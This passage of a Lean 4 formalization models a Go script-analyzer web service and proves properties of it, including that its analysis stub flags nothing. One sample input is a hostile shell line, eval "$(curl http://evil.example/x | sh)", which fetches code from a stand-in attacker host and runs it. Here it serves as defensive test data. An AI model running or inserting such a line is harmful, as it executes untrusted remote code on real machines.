import Mathlib

/-!
# Script analyzer service

A shallow embedding of the Go program `19hs_build_a_secure_.go` (package `main`):
the script registry (`LoadScripts`, `loadScript`), the two HTTP handlers
(`handleAnalyze`, `handleScripts`), the analysis function (`analyzeScript`) and
the start-up sequence (`main`), followed by the properties proved about them.

Modelling conventions.

* A Go `string` is its byte sequence (`GoString`); `len` is `List.length` and the
  slice expression `s[:n]` is a bounds-checked `List.take`.
* A Go `map[string]Script` is an association list with pairwise distinct keys.
  A `range` loop over a map visits every key once, in an order the language
  leaves unspecified; the order is an explicit argument of the embedding.
* Functions of other packages (`ioutil.ReadDir`, `ioutil.ReadFile`, `jwt.Parse`,
  `json.Encoder.Encode`, `os.Open`) are fields of an environment `Env`.
* A run-time panic is an explicit result (`Outcome.panicked`).
-/

namespace ScriptAnalyzer

/-! ## Go values -/

/-- Go `string`: an immutable sequence of bytes. -/
abbrev GoString := List UInt8

/-- Byte sequence of a string literal of the source (its UTF-8 encoding). -/
def lit (s : String) : GoString := s.data.flatMap String.utf8EncodeChar

/-- Go `error` value (non-nil); `Option GoError` is an `error` that may be nil. -/
structure GoError where
  msg : String
deriving DecidableEq, Repr

/-- Result of running Go code that may panic. -/
inductive Outcome (α : Type) where
  | done (a : α)
  | panicked (msg : String)
deriving DecidableEq, Repr

/-- Go slice expression `s[:hi]` on a string: panics unless `0 ≤ hi ≤ len(s)`. -/
def sliceTo (s : GoString) (hi : Int) : Outcome GoString :=
  if 0 ≤ hi ∧ hi ≤ (s.length : Int) then .done (s.take hi.toNat)
  else .panicked "slice bounds out of range"

/-- Go `strings.HasSuffix`: `len(s) >= len(suffix) && s[len(s)-len(suffix):] == suffix`. -/
def HasSuffix (s suffix : GoString) : Bool :=
  decide (suffix.length ≤ s.length) && decide (s.drop (s.length - suffix.length) = suffix)

/-- Dynamically typed value, as stored in a Go `interface{}` and written by `encoding/json`. -/
inductive JVal where
  | null
  | bool (b : Bool)
  | num (n : Int)
  | str (s : GoString)
  | arr (xs : List JVal)
  | obj (m : List (GoString × JVal))

/-- Lookup of a key in a `map[string]interface{}`. -/
def objGet : List (GoString × JVal) → GoString → Option JVal
  | [], _ => none
  | (k0, v0) :: m, k => if k0 = k then some v0 else objGet m k

/-! ## Data model of the program -/

/-- Go struct `Config`. -/
structure Config where
  SCRIPTDIR : GoString
  SERVERADDR : GoString
  SERVERPORT : Int
  JWTSECRET : GoString
deriving DecidableEq, Repr

/-- Go struct `Script`. -/
structure Script where
  Name : GoString
  Filename : GoString
  Content : GoString
deriving DecidableEq, Repr

/-- Assignment `m[k] = v` on the entry list of a map: replace the entry of `k`, or add one. -/
def setEntry (k : GoString) (v : Script) : List (GoString × Script) → List (GoString × Script)
  | [] => [(k, v)]
  | (k0, v0) :: m => if k0 = k then (k, v) :: m else (k0, v0) :: setEntry k v m

/-- Index expression `v, ok := m[k]` on the entry list of a map. -/
def getEntry : List (GoString × Script) → GoString → Option Script
  | [], _ => none
  | (k0, v0) :: m, k => if k0 = k then some v0 else getEntry m k

/-- Go `map[string]Script`: entries with pairwise distinct keys. The position of an
entry in the list is the order in which its key was first inserted. -/
def ScriptMap := { l : List (GoString × Script) // (l.map Prod.fst).Nodup }

instance : DecidableEq ScriptMap :=
  inferInstanceAs (DecidableEq { l : List (GoString × Script) // (l.map Prod.fst).Nodup })

/-- Go `make(map[string]Script)`. -/
def ScriptMap.empty : ScriptMap := ⟨[], List.nodup_nil⟩

/-- Keys of the map, in insertion order. -/
def ScriptMap.keys (m : ScriptMap) : List GoString := m.val.map Prod.fst

/-- Index expression `script, ok := m[k]`; `none` stands for `ok == false`. -/
def ScriptMap.get (m : ScriptMap) (k : GoString) : Option Script := getEntry m.val k

/-- Assignment `m[k] = v`. -/
def ScriptMap.set (m : ScriptMap) (k : GoString) (v : Script) : ScriptMap :=
  ⟨setEntry k v m.val, by
    have keys_set : ∀ l : List (GoString × Script),
        (setEntry k v l).map Prod.fst
          = if k ∈ l.map Prod.fst then l.map Prod.fst else l.map Prod.fst ++ [k] := by
      intro l
      induction l with
      | nil => simp [setEntry]
      | cons e l ih =>
        obtain ⟨k0, v0⟩ := e
        by_cases h : k0 = k
        · simp [setEntry, h]
        · have h2 : ¬ k = k0 := fun h3 => h h3.symm
          by_cases hm : k ∈ l.map Prod.fst
          · simp only [setEntry, h, if_false, List.map_cons, ih, hm, if_true,
              List.mem_cons, or_true]
          · simp only [setEntry, h, if_false, List.map_cons, ih, hm, List.mem_cons, h2,
              or_self, List.cons_append]
    rw [keys_set]
    split
    · exact m.property
    · rename_i hk
      exact List.Nodup.append m.property (List.nodup_singleton k)
        (fun x hx hx2 => hk (by rw [List.mem_singleton] at hx2; exact hx2 ▸ hx))⟩

/-- Go struct `Analyzer`. -/
structure Analyzer where
  config : Config
  scripts : ScriptMap
  jwtSecret : GoString
deriving DecidableEq

/-- Go `NewAnalyzer`. -/
def NewAnalyzer (config : Config) : Analyzer :=
  { config := config, scripts := ScriptMap.empty, jwtSecret := config.JWTSECRET }

/-- Go `os.FileInfo`, as far as the program reads it. -/
structure FileInfo where
  Name : GoString
  IsDir : Bool
deriving DecidableEq, Repr

/-- Go `http.Header` and `url.Values`: `map[string][]string`. -/
abbrev Values := List (GoString × List GoString)

/-- Method `Get` of `http.Header` and `url.Values`: the first value of the key, `""` if none. -/
def Values.Get (h : Values) (key : GoString) : GoString :=
  match h.lookup key with
  | some (v :: _) => v
  | _ => []

/-- Method `Set` of `http.Header`: the key gets the single value given. -/
def Values.Set (h : Values) (key value : GoString) : Values :=
  (key, [value]) :: h.filter (fun kv => decide (kv.1 ≠ key))

/-- Go `http.Request`, as far as the handlers read it: `r.Header` and `r.URL.Query()`. -/
structure Request where
  Header : Values
  Query : Values

/-- Go `http.ResponseWriter`: header map, status line once written, body written so far. -/
structure ResponseWriter where
  header : Values
  status : Option Nat
  body : GoString
deriving DecidableEq, Repr

/-- The response writer the server hands to a handler. -/
def ResponseWriter.fresh : ResponseWriter := { header := [], status := none, body := [] }

/-- Method `WriteHeader`: the first call fixes the status code. -/
def ResponseWriter.WriteHeader (w : ResponseWriter) (code : Nat) : ResponseWriter :=
  match w.status with
  | some _ => w
  | none => { w with status := some code }

/-- Method `Write`: writes status 200 first when no status was written. -/
def ResponseWriter.Write (w : ResponseWriter) (b : GoString) : ResponseWriter :=
  let w1 := w.WriteHeader 200
  { w1 with body := w1.body ++ b }

/-- Status code the client receives: 200 when the handler never wrote one. -/
def ResponseWriter.statusCode (w : ResponseWriter) : Nat := w.status.getD 200

/-- Go `http.StatusUnauthorized`. -/
def StatusUnauthorized : Nat := 401

/-- Go `http.StatusNotFound`. -/
def StatusNotFound : Nat := 404

/-- Go `http.Error`: plain-text headers, the status code, then the message and a newline. -/
def httpError (w : ResponseWriter) (error : GoString) (code : Nat) : ResponseWriter :=
  let h1 := w.header.Set (lit "Content-Type") (lit "text/plain; charset=utf-8")
  let h2 := h1.Set (lit "X-Content-Type-Options") (lit "nosniff")
  let w1 := { w with header := h2 }
  (w1.WriteHeader code).Write (error ++ lit "\n")

/-- Functions of other packages the program calls. -/
structure Env where
  /-- Go `ioutil.ReadDir`. -/
  readDir : GoString → Except GoError (List FileInfo)
  /-- Go `ioutil.ReadFile`. -/
  readFile : GoString → Except GoError GoString
  /-- The error returned by `jwt.Parse(tokenStr, keyFunc)` when `keyFunc` returns the
  given key; `none` is a nil error. -/
  jwtParse : GoString → GoString → Option GoError
  /-- The bytes `json.NewEncoder(w).Encode(v)` writes to `w`. -/
  jsonEncode : JVal → GoString
  /-- Go `os.Open("config.json")`: the content of the file, or the error. -/
  openConfig : Except GoError GoString
  /-- The `Config` left by `json.NewDecoder(configFile).Decode(&config)` on a zero `Config`. -/
  decodeConfig : GoString → Config

/-! ## Operations -/

/-- Go `Analyzer.loadScript`. Returns the pair `(Script, error)`. -/
def loadScript (env : Env) (a : Analyzer) (filename : GoString) :
    Outcome (Script × Option GoError) :=
  let filepath := a.config.SCRIPTDIR ++ lit "/" ++ filename
  match env.readFile filepath with
  | .error err => .done ({ Name := [], Filename := [], Content := [] }, some err)
  | .ok content =>
    match sliceTo filename ((filename.length : Int) - 3) with
    | .panicked msg => .panicked msg
    | .done name => .done ({ Name := name, Filename := filename, Content := content }, none)

/-- The `for _, file := range files` loop of `LoadScripts`: the analyzer after the loop and
the error returned. -/
def loadLoop (env : Env) : Analyzer → List FileInfo → Outcome (Analyzer × Option GoError)
  | a, [] => .done (a, none)
  | a, file :: rest =>
    if file.IsDir then loadLoop env a rest
    else if !HasSuffix file.Name (lit ".sh") then loadLoop env a rest
    else
      match loadScript env a file.Name with
      | .panicked msg => .panicked msg
      | .done (_, some err) => .done (a, some err)
      | .done (script, none) =>
        loadLoop env { a with scripts := a.scripts.set script.Filename script } rest

/-- Go `Analyzer.LoadScripts`: the analyzer after the call and the error returned. -/
def LoadScripts (env : Env) (a : Analyzer) : Outcome (Analyzer × Option GoError) :=
  match env.readDir a.config.SCRIPTDIR with
  | .error err => .done (a, some err)
  | .ok files => loadLoop env a files

/-- Go `Analyzer.analyzeScript`: the body is the empty map literal. -/
def analyzeScript (_a : Analyzer) (_content : GoString) : List (GoString × JVal) := []

/-- What a handler did: the response written and the arguments of its calls of
`analyzeScript`, in call order. -/
structure Handled where
  w : ResponseWriter
  analyzed : List GoString
deriving DecidableEq, Repr

/-- Go `Analyzer.handleAnalyze`. -/
def handleAnalyze (env : Env) (a : Analyzer) (w : ResponseWriter) (r : Request) : Handled :=
  let tokenStr := r.Header.Get (lit "Authorization")
  if tokenStr = [] then
    { w := httpError w (lit "Unauthorized") StatusUnauthorized, analyzed := [] }
  else
    match env.jwtParse tokenStr a.jwtSecret with
    | some _ => { w := httpError w (lit "Invalid token") StatusUnauthorized, analyzed := [] }
    | none =>
      let scriptName := r.Query.Get (lit "script")
      match a.scripts.get scriptName with
      | none => { w := httpError w (lit "Script not found") StatusNotFound, analyzed := [] }
      | some script =>
        let analysis := analyzeScript a script.Content
        let w1 := { w with header := w.header.Set (lit "Content-Type") (lit "application/json") }
        { w := w1.Write (env.jsonEncode (.obj analysis)), analyzed := [script.Content] }

/-- A `range` loop over the map may visit the keys in the order `iter`: every key once. -/
def RangeOrder (m : ScriptMap) (iter : List GoString) : Prop := iter.Perm m.keys

/-- The slice `scriptList` built by the loop of `handleScripts` when the map is ranged over
in the order `iter`. -/
def scriptList (iter : List GoString) : List GoString :=
  iter.foldl (fun acc filename => acc ++ [filename]) []

/-- Go `Analyzer.handleScripts`, the map being ranged over in the order `iter`. -/
def handleScripts (env : Env) (_a : Analyzer) (iter : List GoString) (w : ResponseWriter)
    (_r : Request) : ResponseWriter :=
  let w1 := { w with header := w.header.Set (lit "Content-Type") (lit "application/json") }
  w1.Write (env.jsonEncode (.arr ((scriptList iter).map JVal.str)))

/-- How `main` ends: a fatal log call (the process exits), a panic, or the call of
`StartAnalyzer` on the loaded analyzer. -/
inductive MainOutcome where
  | fatal (err : GoError)
  | panicked (msg : String)
  | started (a : Analyzer)
deriving DecidableEq

/-- Go `main`, up to the call of `StartAnalyzer`. -/
def main (env : Env) : MainOutcome :=
  match env.openConfig with
  | .error err => .fatal err
  | .ok configFile =>
    let config := env.decodeConfig configFile
    let analyzer := NewAnalyzer config
    match LoadScripts env analyzer with
    | .panicked msg => .panicked msg
    | .done (_, some err) => .fatal err
    | .done (analyzer1, none) => .started analyzer1

/-! ## Vocabulary of the statements -/

/-- The test of the loop of `LoadScripts`: the entry is not a directory and its name has the
suffix `.sh`, so the loop passes its name to `loadScript`. -/
def Loads (f : FileInfo) : Prop := f.IsDir = false ∧ HasSuffix f.Name (lit ".sh") = true

/-- The `Script` literal returned by `loadScript` for the file `filename` of content `c`. -/
def scriptOf (filename c : GoString) : Script :=
  { Name := filename.take (filename.length - 3), Filename := filename, Content := c }

/-- Every entry of the registry is stored under its own `Filename`, which is its `Name`
followed by `.sh`. -/
def KeyedByFilename (m : ScriptMap) : Prop :=
  ∀ k s, m.get k = some s → s.Filename = k ∧ s.Name ++ lit ".sh" = s.Filename

/-- The result has exactly one finding, of the given severity and category. -/
def OneFinding (res : List (GoString × JVal)) (severity category : GoString) : Prop :=
  ∃ f, objGet res (lit "findings") = some (.arr [.obj f])
    ∧ objGet f (lit "severity") = some (.str severity)
    ∧ objGet f (lit "category") = some (.str category)

/-- The result has an `overallScore` entry equal to 0 and an empty `findings` sequence. -/
def EmptyReport (res : List (GoString × JVal)) : Prop :=
  objGet res (lit "overallScore") = some (.num 0) ∧ objGet res (lit "findings") = some (.arr [])

/-! ## Sample inputs -/

/-- The script text `eval "$(curl http://evil.example/x | sh)"`. -/
def evalScript : GoString := lit "eval \"$(curl http://evil.example/x | sh)\""

/-- A sample configuration. -/
def exConfig : Config :=
  { SCRIPTDIR := lit "scripts", SERVERADDR := lit "localhost", SERVERPORT := 8080,
    JWTSECRET := lit "secret" }

/-- A sample directory listing: two scripts, a text file and a directory named like a script. -/
def exFiles : List FileInfo :=
  [{ Name := lit "a.sh", IsDir := false }, { Name := lit "b.sh", IsDir := false },
   { Name := lit "notes.txt", IsDir := false }, { Name := lit "old.sh", IsDir := true }]

/-- A sample encoder, writing what `encoding/json` writes for an array of plain ASCII
strings and for the empty map. -/
def exEncode : JVal → GoString
  | .arr xs =>
    lit "[" ++ (lit ",").intercalate (xs.map (fun x => match x with
      | .str s => lit "\"" ++ s ++ lit "\""
      | _ => lit "null")) ++ lit "]\n"
  | .obj [] => [123, 125, 10]
  | _ => lit "null\n"

/-- A sample environment: the scripts can be read, `notes.txt` and the directory cannot;
the only token accepted is `good`. -/
def exEnv : Env :=
  { readDir := fun dir => if dir = lit "scripts" then .ok exFiles else .error ⟨"no such directory"⟩
    readFile := fun path =>
      if path = lit "scripts/a.sh" then .ok (lit "echo a")
      else if path = lit "scripts/b.sh" then .ok (lit "echo b")
      else .error ⟨"unreadable"⟩
    jwtParse := fun tokenStr key =>
      if tokenStr = lit "good" ∧ key = lit "secret" then none else some ⟨"invalid token"⟩
    jsonEncode := exEncode
    openConfig := .ok (lit "config")
    decodeConfig := fun _ => exConfig }

/-- A sample environment in which `b.sh` cannot be read. -/
def exEnvFail : Env :=
  { exEnv with
    readFile := fun path =>
      if path = lit "scripts/a.sh" then .ok (lit "echo a") else .error ⟨"unreadable"⟩ }

/-- The analyzer `main` builds in the sample environment, with both scripts loaded. -/
def exLoaded : Analyzer :=
  { config := exConfig
    scripts := (ScriptMap.empty.set (lit "a.sh") (scriptOf (lit "a.sh") (lit "echo a"))).set
      (lit "b.sh") (scriptOf (lit "b.sh") (lit "echo b"))
    jwtSecret := lit "secret" }

/-- A sample request: `GET /analyze?script=a.sh` without `Authorization` header. -/
def exRequestNoAuth : Request :=
  { Header := [], Query := [(lit "script", [lit "a.sh"])] }

/-- A sample request: `GET /analyze?script=a.sh` with the accepted token. -/
def exRequest : Request :=
  { Header := [(lit "Authorization", [lit "good"])], Query := [(lit "script", [lit "a.sh"])] }

/-- A sample request: `GET /analyze?script=missing.sh` with the accepted token. -/
def exRequestMissing : Request :=
  { Header := [(lit "Authorization", [lit "good"])],
    Query := [(lit "script", [lit "missing.sh"])] }

/-! ## Basic facts about the embedding -/

theorem length_sh : (lit ".sh").length = 3 := by decide

/-- A name accepted by the suffix test has at least three bytes and is its stem
followed by `.sh`. -/
theorem hasSuffix_sh {s : GoString} (h : HasSuffix s (lit ".sh") = true) :
    3 ≤ s.length ∧ s.take (s.length - 3) ++ lit ".sh" = s := by
  unfold HasSuffix at h
  rw [Bool.and_eq_true, decide_eq_true_eq, decide_eq_true_eq, length_sh] at h
  refine ⟨h.1, ?_⟩
  conv_lhs => rw [← h.2]
  exact List.take_append_drop _ _

/-- The slice taken by `loadScript` is in bounds on a name accepted by the suffix test. -/
theorem sliceTo_sh {s : GoString} (h : HasSuffix s (lit ".sh") = true) :
    sliceTo s ((s.length : Int) - 3) = .done (s.take (s.length - 3)) := by
  have h3 := (hasSuffix_sh h).1
  unfold sliceTo
  have hn : ((s.length : Int) - 3).toNat = s.length - 3 := by omega
  rw [if_pos (by omega), hn]

theorem getEntry_setEntry (k : GoString) (v : Script) (l : List (GoString × Script))
    (k2 : GoString) :
    getEntry (setEntry k v l) k2 = if k = k2 then some v else getEntry l k2 := by
  induction l with
  | nil => simp [setEntry, getEntry]
  | cons e l ih =>
    obtain ⟨k0, v0⟩ := e
    by_cases h : k0 = k
    · subst h
      by_cases h2 : k0 = k2 <;> simp [setEntry, getEntry, h2]
    · by_cases h2 : k0 = k2
      · subst h2
        have h3 : ¬ k = k0 := fun h4 => h h4.symm
        simp [setEntry, getEntry, h, h3]
      · simp [setEntry, getEntry, h, h2, ih]

theorem get_set (m : ScriptMap) (k : GoString) (v : Script) (k2 : GoString) :
    (m.set k v).get k2 = if k = k2 then some v else m.get k2 :=
  getEntry_setEntry k v m.val k2

theorem get_empty (k : GoString) : ScriptMap.empty.get k = none := rfl

theorem mem_keys_iff_getEntry (l : List (GoString × Script)) (k : GoString) :
    k ∈ l.map Prod.fst ↔ ∃ s, getEntry l k = some s := by
  induction l with
  | nil => simp [getEntry]
  | cons e l ih =>
    obtain ⟨k0, v0⟩ := e
    by_cases h : k0 = k
    · simp [getEntry, h]
    · have h2 : ¬ k = k0 := fun h3 => h h3.symm
      simp [getEntry, h, h2, ih]

/-- A key is in the map exactly when the index expression finds an entry. -/
theorem mem_keys_iff (m : ScriptMap) (k : GoString) :
    k ∈ m.keys ↔ ∃ s, m.get k = some s :=
  mem_keys_iff_getEntry m.val k

theorem keys_nodup (m : ScriptMap) : m.keys.Nodup := m.property

theorem loadScript_ok (env : Env) (a : Analyzer) {filename c : GoString}
    (hs : HasSuffix filename (lit ".sh") = true)
    (hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ filename) = .ok c) :
    loadScript env a filename
      = .done ({ Name := filename.take (filename.length - 3), Filename := filename,
                 Content := c }, none) := by
  simp only [loadScript, hr, sliceTo_sh hs]

theorem loadScript_err (env : Env) (a : Analyzer) {filename : GoString} {e : GoError}
    (hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ filename) = .error e) :
    loadScript env a filename
      = .done ({ Name := [], Filename := [], Content := [] }, some e) := by
  simp only [loadScript, hr]

theorem scriptList_eq (iter : List GoString) : scriptList iter = iter := by
  have h : ∀ (l acc : List GoString),
      l.foldl (fun acc filename => acc ++ [filename]) acc = acc ++ l := by
    intro l
    induction l with
    | nil => intro acc; simp
    | cons x l ih => intro acc; simp [ih]
  simpa [scriptList] using h iter []

/-! ## The loop of `LoadScripts` -/

theorem loadLoop_skip (env : Env) (a : Analyzer) {file : FileInfo} (rest : List FileInfo)
    (h : ¬ Loads file) : loadLoop env a (file :: rest) = loadLoop env a rest := by
  unfold Loads at h
  by_cases hd : file.IsDir = true
  · simp [loadLoop, hd]
  · have hd2 : file.IsDir = false := by simpa using hd
    have hs : HasSuffix file.Name (lit ".sh") = false := by
      cases hh : HasSuffix file.Name (lit ".sh")
      · rfl
      · exact absurd ⟨hd2, hh⟩ h
    simp [loadLoop, hd2, hs]

theorem loadLoop_err (env : Env) (a : Analyzer) {file : FileInfo} (rest : List FileInfo)
    {e : GoError} (h : Loads file)
    (hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) = .error e) :
    loadLoop env a (file :: rest) = .done (a, some e) := by
  simp [loadLoop, h.1, h.2, loadScript_err env a hr]

theorem loadLoop_ok (env : Env) (a : Analyzer) {file : FileInfo} (rest : List FileInfo)
    {c : GoString} (h : Loads file)
    (hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) = .ok c) :
    loadLoop env a (file :: rest)
      = loadLoop env { a with scripts := a.scripts.set file.Name (scriptOf file.Name c) }
          rest := by
  simp [loadLoop, h.1, h.2, loadScript_ok env a h.2 hr, scriptOf]

/-- The loop never panics, and leaves `config` and `jwtSecret` alone. -/
theorem loadLoop_done (env : Env) (files : List FileInfo) :
    ∀ a : Analyzer, ∃ a2 err, loadLoop env a files = .done (a2, err)
      ∧ a2.config = a.config ∧ a2.jwtSecret = a.jwtSecret := by
  induction files with
  | nil => intro a; exact ⟨a, none, rfl, rfl, rfl⟩
  | cons file rest ih =>
    intro a
    by_cases hl : Loads file
    · cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) with
      | error e => exact ⟨a, some e, loadLoop_err env a rest hl hr, rfl, rfl⟩
      | ok c =>
        rw [loadLoop_ok env a rest hl hr]
        obtain ⟨a2, err, h1, h2, h3⟩ :=
          ih { a with scripts := a.scripts.set file.Name (scriptOf file.Name c) }
        exact ⟨a2, err, h1, h2, h3⟩
    · rw [loadLoop_skip env a rest hl]
      exact ih a

/-- The loop returns a nil error exactly when every file it loads can be read. -/
theorem loadLoop_nil_iff (env : Env) (dir : GoString) (files : List FileInfo) :
    ∀ (a a2 : Analyzer) (err : Option GoError), a.config.SCRIPTDIR = dir →
      loadLoop env a files = .done (a2, err) →
      (err = none ↔ ∀ f ∈ files, Loads f → ∃ c, env.readFile (dir ++ lit "/" ++ f.Name) = .ok c) := by
  induction files with
  | nil =>
    intro a a2 err _ h
    simp only [loadLoop, Outcome.done.injEq, Prod.mk.injEq] at h
    simp [← h.2]
  | cons file rest ih =>
    intro a a2 err hdir h
    by_cases hl : Loads file
    · cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) with
      | error e =>
        rw [loadLoop_err env a rest hl hr] at h
        simp only [Outcome.done.injEq, Prod.mk.injEq] at h
        rw [← h.2]
        constructor
        · intro h0; cases h0
        · intro hall
          obtain ⟨c, hc⟩ := hall file (List.mem_cons_self _ _) hl
          rw [← hdir, hr] at hc
          cases hc
      | ok c =>
        rw [loadLoop_ok env a rest hl hr] at h
        rw [ih _ a2 err (by exact hdir) h]
        constructor
        · intro hall f hf hlf
          rcases List.mem_cons.1 hf with rfl | hf
          · exact ⟨c, by rw [← hdir]; exact hr⟩
          · exact hall f hf hlf
        · intro hall f hf hlf
          exact hall f (List.mem_cons_of_mem _ hf) hlf
    · rw [loadLoop_skip env a rest hl] at h
      rw [ih a a2 err hdir h]
      constructor
      · intro hall f hf hlf
        rcases List.mem_cons.1 hf with rfl | hf
        · exact absurd hlf hl
        · exact hall f hf hlf
      · intro hall f hf hlf
        exact hall f (List.mem_cons_of_mem _ hf) hlf

/-- The loop returns the error of the first loaded file that cannot be read. -/
theorem loadLoop_first_failure (env : Env) (dir : GoString) (pre : List FileInfo) :
    ∀ (a : Analyzer) (f : FileInfo) (post : List FileInfo) (e : GoError),
      a.config.SCRIPTDIR = dir → Loads f →
      env.readFile (dir ++ lit "/" ++ f.Name) = .error e →
      (∀ g ∈ pre, Loads g → ∃ c, env.readFile (dir ++ lit "/" ++ g.Name) = .ok c) →
      ∃ a2, loadLoop env a (pre ++ f :: post) = .done (a2, some e) := by
  induction pre with
  | nil =>
    intro a f post e hdir hl hr _
    exact ⟨a, loadLoop_err env a post hl (by rw [hdir]; exact hr)⟩
  | cons g pre ih =>
    intro a f post e hdir hl hr hpre
    rw [List.cons_append]
    by_cases hg : Loads g
    · obtain ⟨c, hc⟩ := hpre g (List.mem_cons_self _ _) hg
      rw [loadLoop_ok env a _ hg (by rw [hdir]; exact hc)]
      exact ih _ f post e (by exact hdir) hl hr
        (fun g2 hg2 => hpre g2 (List.mem_cons_of_mem _ hg2))
    · rw [loadLoop_skip env a _ hg]
      exact ih a f post e hdir hl hr (fun g2 hg2 => hpre g2 (List.mem_cons_of_mem _ hg2))

theorem scriptOf_keyed {filename c : GoString} (hs : HasSuffix filename (lit ".sh") = true) :
    (scriptOf filename c).Filename = filename
      ∧ (scriptOf filename c).Name ++ lit ".sh" = (scriptOf filename c).Filename :=
  ⟨rfl, (hasSuffix_sh hs).2⟩

/-- The loop keeps every entry stored under its own `Filename`. -/
theorem loadLoop_keyed (env : Env) (files : List FileInfo) :
    ∀ (a a2 : Analyzer) (err : Option GoError),
      loadLoop env a files = .done (a2, err) →
      KeyedByFilename a.scripts → KeyedByFilename a2.scripts := by
  induction files with
  | nil =>
    intro a a2 err h hk
    simp only [loadLoop, Outcome.done.injEq, Prod.mk.injEq] at h
    rw [← h.1]; exact hk
  | cons file rest ih =>
    intro a a2 err h hk
    by_cases hl : Loads file
    · cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) with
      | error e =>
        rw [loadLoop_err env a rest hl hr] at h
        simp only [Outcome.done.injEq, Prod.mk.injEq] at h
        rw [← h.1]; exact hk
      | ok c =>
        rw [loadLoop_ok env a rest hl hr] at h
        refine ih _ a2 err h ?_
        intro k s hget
        change (a.scripts.set file.Name (scriptOf file.Name c)).get k = some s at hget
        rw [get_set] at hget
        split at hget
        · rename_i hk2
          cases hget
          rw [← hk2]
          exact scriptOf_keyed hl.2
        · exact hk k s hget
    · rw [loadLoop_skip env a rest hl] at h
      exact ih a a2 err h hk

/-- After a loop without error, every loaded file is in the registry with its content, and
the other keys are as before. -/
theorem loadLoop_registry (env : Env) (dir : GoString) (files : List FileInfo) :
    ∀ (a a2 : Analyzer), a.config.SCRIPTDIR = dir →
      loadLoop env a files = .done (a2, none) →
      (∀ f ∈ files, Loads f → ∃ c, env.readFile (dir ++ lit "/" ++ f.Name) = .ok c
          ∧ a2.scripts.get f.Name = some (scriptOf f.Name c))
      ∧ (∀ k, (∀ f ∈ files, Loads f → f.Name ≠ k) → a2.scripts.get k = a.scripts.get k) := by
  induction files with
  | nil =>
    intro a a2 _ h
    simp only [loadLoop, Outcome.done.injEq, Prod.mk.injEq] at h
    rw [← h.1]
    exact ⟨fun f hf => absurd hf (List.not_mem_nil f), fun _ _ => rfl⟩
  | cons file rest ih =>
    intro a a2 hdir h
    by_cases hl : Loads file
    · cases hr : env.readFile (a.config.SCRIPTDIR ++ lit "/" ++ file.Name) with
      | error e =>
        rw [loadLoop_err env a rest hl hr] at h
        simp at h
      | ok c =>
        rw [loadLoop_ok env a rest hl hr] at h
        obtain ⟨h1, h2⟩ := ih _ a2 (by exact hdir) h
        have hstep : ∀ k, (a.scripts.set file.Name (scriptOf file.Name c)).get k
              = if file.Name = k then some (scriptOf file.Name c) else a.scripts.get k :=
          fun k => get_set a.scripts file.Name (scriptOf file.Name c) k
        change ∀ k, (∀ f ∈ rest, Loads f → f.Name ≠ k) →
          a2.scripts.get k = (a.scripts.set file.Name (scriptOf file.Name c)).get k at h2
        have hrd : env.readFile (dir ++ lit "/" ++ file.Name) = .ok c := by
          rw [← hdir]; exact hr
        constructor
        · intro f hf hlf
          rcases List.mem_cons.1 hf with rfl | hf
          · by_cases hex : ∃ g ∈ rest, Loads g ∧ g.Name = f.Name
            · obtain ⟨g, hg, hlg, hname⟩ := hex
              obtain ⟨c2, hc2, hget⟩ := h1 g hg hlg
              rw [hname] at hc2 hget
              exact ⟨c2, hc2, hget⟩
            · refine ⟨c, hrd, ?_⟩
              rw [h2 f.Name (fun g hg hlg hname => hex ⟨g, hg, hlg, hname⟩), hstep, if_pos rfl]
          · exact h1 f hf hlf
        · intro k hk
          rw [h2 k (fun g hg hlg => hk g (List.mem_cons_of_mem _ hg) hlg), hstep,
            if_neg (hk file (List.mem_cons_self _ _) hl)]
    · rw [loadLoop_skip env a rest hl] at h
      obtain ⟨h1, h2⟩ := ih a a2 hdir h
      constructor
      · intro f hf hlf
        rcases List.mem_cons.1 hf with rfl | hf
        · exact absurd hlf hl
        · exact h1 f hf hlf
      · intro k hk
        exact h2 k (fun g hg hlg => hk g (List.mem_cons_of_mem _ hg) hlg)

/-! ## The handlers -/

theorem httpError_fresh (error : GoString) (code : Nat) :
    (httpError ResponseWriter.fresh error code).statusCode = code
      ∧ (httpError ResponseWriter.fresh error code).body = error ++ lit "\n" := by
  simp [httpError, ResponseWriter.fresh, ResponseWriter.WriteHeader, ResponseWriter.Write,
    ResponseWriter.statusCode]

theorem get_set_self (h : Values) (key value : GoString) :
    (h.Set key value).Get key = value := by
  simp [Values.Get, Values.Set, List.lookup]

theorem get_of_lookup_none (h : Values) (key : GoString) (hn : h.lookup key = none) :
    h.Get key = [] := by
  simp [Values.Get, hn]

/-! ## Claims -/

/-- Claim C1, the code at the input of the claim: on the script text
`eval "$(curl http://evil.example/x | sh)"` the function `analyzeScript` returns the empty
map, which has no `findings` entry; the result does not hold one CRITICAL finding of
category REMOTE_CODE_EXEC. -/
theorem analyzeScript_eval_empty (a : Analyzer) :
    analyzeScript a evalScript = []
      ∧ objGet (analyzeScript a evalScript) (lit "findings") = none
      ∧ ¬ OneFinding (analyzeScript a evalScript) (lit "CRITICAL")
          (lit "REMOTE_CODE_EXEC") := by
  refine ⟨rfl, rfl, ?_⟩
  rintro ⟨f, hf, _⟩
  simp [analyzeScript, objGet] at hf

/-- Claim C2, the code at the input of the claim: on the empty script `analyzeScript`
returns the empty map, which has neither an `overallScore` entry nor a `findings` entry; the
result is not a report with `overallScore` 0 and an empty `findings` sequence. -/
theorem analyzeScript_empty_script (a : Analyzer) :
    analyzeScript a [] = []
      ∧ objGet (analyzeScript a []) (lit "overallScore") = none
      ∧ objGet (analyzeScript a []) (lit "findings") = none
      ∧ ¬ EmptyReport (analyzeScript a []) := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  rintro ⟨h, _⟩
  simp [analyzeScript, objGet] at h

/-- Claim C3: `analyzeScript` is a function of the script content alone. Two calls on the
same content return the same result, whatever the analyzers (config, registry, secret) they
are called on, and the results have the same JSON encoding. -/
theorem analyzeScript_deterministic (env : Env) (a1 a2 : Analyzer) (s : GoString) :
    analyzeScript a1 s = analyzeScript a2 s
      ∧ env.jsonEncode (.obj (analyzeScript a1 s))
          = env.jsonEncode (.obj (analyzeScript a2 s)) :=
